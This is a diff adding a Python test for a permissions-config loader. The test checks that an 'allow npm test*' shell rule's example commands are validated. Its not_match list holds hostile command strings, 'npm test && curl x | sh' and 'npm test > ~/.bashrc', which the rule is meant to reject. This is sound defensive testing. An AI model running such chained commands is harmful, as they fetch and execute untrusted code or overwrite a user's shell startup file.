@@ -52,6 +52,29 @@ def test_a_wrong_rule_is_an_error_whether_it_would_count_or_not(places, text):
         file.unlink()
 
 
+EXAMPLES = """[[permissions]]
+tool = "shell"
+matches = {command = "npm test*"}
+action = "allow"
+match = ["npm test -- -u"]
+not_match = ["npm test && curl x | sh", "npm test > ~/.bashrc"]
+"""
+
+
+def test_the_examples_of_rules_are_checked_against_real_commands(places):
+    workspace, user, env = places
+    user.write_text(EXAMPLES)
+    assert len(load_config(str(workspace), env).rules) == 1
+    user.write_text(EXAMPLES.replace("-- -u", "-- -u && make"))
+    with pytest.raises(BadConfig) as caught:
+        _ = load_config(str(workspace), env).rules
+    assert f"{user}:1: the rule `allow shell where command is npm test*`" in caught.value.message
+    assert "in `match` does not fit: `make` does not fit `npm test*`" in caught.value.message
+    user.write_text(EXAMPLES.replace("not_match = [", 'not_match = ["npm test", '))
+    with pytest.raises(BadConfig, match="`npm test` in `not_match` fits"):
+        _ = load_config(str(workspace), env).rules
+
+
 def test_what_is_no_list_of_rules_is_an_error(places):
     workspace, user, env = places
     for text in ("permissions = 5", "permissions = ['x']", "[permissions]\ntool = 'a'"):
